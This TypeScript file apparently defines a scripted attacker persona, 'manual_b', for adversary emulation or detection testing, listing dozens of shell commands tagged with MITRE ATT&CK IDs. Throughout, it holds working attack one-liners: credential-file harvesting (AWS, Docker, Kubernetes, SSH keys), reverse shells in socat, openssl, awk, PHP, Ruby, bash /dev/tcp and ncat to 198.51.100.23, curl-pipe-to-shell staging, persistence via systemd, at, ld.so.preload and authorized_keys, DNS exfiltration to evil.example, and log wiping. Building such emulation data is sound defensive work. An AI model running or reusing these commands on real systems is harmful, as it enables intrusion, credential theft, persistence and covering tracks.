import { sh } from './hand';
import type { Hand } from './hand';

/** Another person: quieter, with tunnels, other shells and other habits than `manual_a`. */
export const manualB: Hand = {
  name: 'manual_b',
  commands: [
    sh('whoami-groups', 'T1033', 'whoami && groups'),
    sh('host-name', 'T1082', 'hostname -f; hostname -I'),
    sh('kernel', 'T1082', 'cat /proc/version'),
    sh('where', 'T1083', 'pwd && ls'),
    sh('listing-sorted', 'T1083', 'ls -lath {app} | head -25'),
    sh('users-with-shell', 'T1087.001', "awk -F: '$7 ~ /sh$/ {print $1,$3,$6}' /etc/passwd"),
    sh('users-getent', 'T1087.001', 'getent passwd | cut -d: -f1,6'),
    sh('settings-read', 'T1552.001', 'head -n 60 {config}'),
    sh('settings-grep', 'T1552.001', "egrep -i 'user|pass|secret|key' {config}"),
    sh(
      'settings-find',
      'T1552.001',
      "find / -xdev \\( -name '.env' -o -name '*.kdbx' -o -name 'id_ed25519' \\) 2>/dev/null"
    ),
    sh(
      'tokens',
      'T1552.001',
      'cat ~/.aws/credentials ~/.docker/config.json ~/.kube/config 2>/dev/null'
    ),
    sh('process-owner', 'T1057', 'ps axo user:20,pid,args | grep -v "\\["'),
    sh('listening', 'T1049', 'ss -lntp'),
    sh('routes', 'T1016', 'ip route; arp -a; cat /proc/net/arp'),
    sh('mounts', 'T1082', 'mount | column -t; cat /etc/fstab'),
    sh('logged-in', 'T1033', 'who -a; last -n 5'),
    sh('packages', 'T1518', 'dpkg -l | grep -iE "sudo|polkit|screen"'),
    sh('capabilities', 'T1548', 'getcap -r / 2>/dev/null'),
    sh(
      'suid-exec',
      'T1548.001',
      'find /usr -user root -perm /4000 -exec ls -ldb {} \\; 2>/dev/null'
    ),
    sh('polkit-probe', 'T1068', 'pkexec --version; sudo --version | head -1'),
    sh('docker-socket', 'T1611', 'ls -l /var/run/docker.sock; id | grep docker'),
    sh(
      'shell-socat',
      'T1059.004',
      'socat tcp-connect:198.51.100.23:443 exec:"bash -li",pty,stderr,setsid,sigint,sane'
    ),
    sh(
      'shell-openssl',
      'T1573',
      'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.23:53 > /tmp/s; rm /tmp/s'
    ),
    sh(
      'shell-awk',
      'T1059',
      `awk 'BEGIN {s = "/inet/tcp/0/198.51.100.23/4444"; while(1) {printf ">" |& s; s |& getline c; if(c){while ((c |& getline) > 0) print $0 |& s; close(c)} if(c=="exit") break}}'`
    ),
    sh('shell-php', 'T1059', `php -r '$s=fsockopen("198.51.100.23",443);exec("sh <&3 >&3 2>&3");'`),
    sh(
      'shell-ruby',
      'T1059',
      `ruby -rsocket -e 'c=TCPSocket.new("198.51.100.23",4444);while(l=c.gets);IO.popen(l,"r"){|i|c.print i.read};end'`
    ),
    sh(
      'shell-exec-fd',
      'T1059.004',
      'exec 5<>/dev/tcp/198.51.100.23/443;cat <&5|while read l;do $l 2>&5 >&5;done'
    ),
    sh(
      'shell-bash-fd',
      'T1059.004',
      "bash -c '0<&196;exec 196<>/dev/tcp/198.51.100.23/9001; sh <&196 >&196 2>&196'"
    ),
    sh('shell-ncat-tls', 'T1573', 'ncat --ssl 198.51.100.23 4444 -e /bin/sh'),
    sh('bind-shell', 'T1059.004', 'timeout 1 ncat -lp 31337 -e /bin/sh'),
    sh(
      'tunnel-chisel',
      'T1572',
      'curl -sL http://198.51.100.23/chisel -o /dev/shm/ch && chmod +x /dev/shm/ch && /dev/shm/ch client 198.51.100.23:8080 R:socks'
    ),
    sh('tunnel-socat', 'T1090', 'timeout 1 socat TCP-LISTEN:8443,fork TCP:10.20.0.5:3389 &'),
    sh(
      'tunnel-ssh',
      'T1572',
      'ssh -o StrictHostKeyChecking=no -o BatchMode=yes -fNR 1080 t@198.51.100.23'
    ),
    sh(
      'enumerate',
      'T1082',
      'wget -O - http://198.51.100.23/lp.sh | sh > /tmp/.o 2>/dev/null; wc -l /tmp/.o'
    ),
    sh(
      'python-staged',
      'T1059.006',
      'cd /var/tmp; curl -O http://198.51.100.23/a.py; python3 a.py; shred -u a.py'
    ),
    sh(
      'heredoc-script',
      'T1059.004',
      'cat > /tmp/.u.sh <<EOF\n#!/bin/bash\nid > /tmp/.id\nEOF\nbash /tmp/.u.sh; cat /tmp/.id'
    ),
    sh('hex-encoded', 'T1027', "$(printf '\\x69\\x64')"),
    sh('octal-encoded', 'T1027', "$'\\143\\141\\164' /etc/passwd"),
    sh('gzip-encoded', 'T1027', 'echo H4sIAAAAAAAAA8tMAQBHQ4X7AgAAAA== | base64 -d | gunzip | sh'),
    sh(
      'systemd-unit',
      'T1543.002',
      'mkdir -p ~/.config/systemd/user; printf "[Service]\\nExecStart=/tmp/.u.sh\\n" > ~/.config/systemd/user/dbus.service; systemctl --user enable dbus'
    ),
    sh('at-job', 'T1053.002', 'echo "bash /tmp/.u.sh" | at now + 1 hour'),
    sh('preload', 'T1574.006', 'echo /tmp/.l.so > /etc/ld.so.preload'),
    sh(
      'key-append',
      'T1098.004',
      "install -d -m 700 $HOME/.ssh && printf 'ssh-ed25519 AAAAC3Nz k\\n' | tee -a $HOME/.ssh/authorized_keys"
    ),
    sh(
      'subnet-sweep',
      'T1018',
      'for i in 1 2 3 4 5; do ping -c1 -W1 10.20.0.$i | grep "bytes from"; done'
    ),
    sh(
      'stage-and-split',
      'T1560',
      'cd /tmp && zip -q -P x9 s.zip {config} && split -b 512 s.zip p_ && ls p_*'
    ),
    sh(
      'send-dns',
      'T1048.003',
      'for c in $(base64 -w 40 {config} | tr "+/=" "-_."); do dig +short $c.t.evil.example @127.0.0.1; done'
    ),
    sh(
      'lastlog-wipe',
      'T1070.002',
      'cat /dev/null > ~/.viminfo; truncate -s 0 /var/log/lastlog; rm -rf /tmp/p_* /tmp/.o'
    ),
    sh('self-delete', 'T1070.004', 'rm -f /tmp/.u.sh /tmp/.id /tmp/s.zip /dev/shm/ch'),
  ],
};
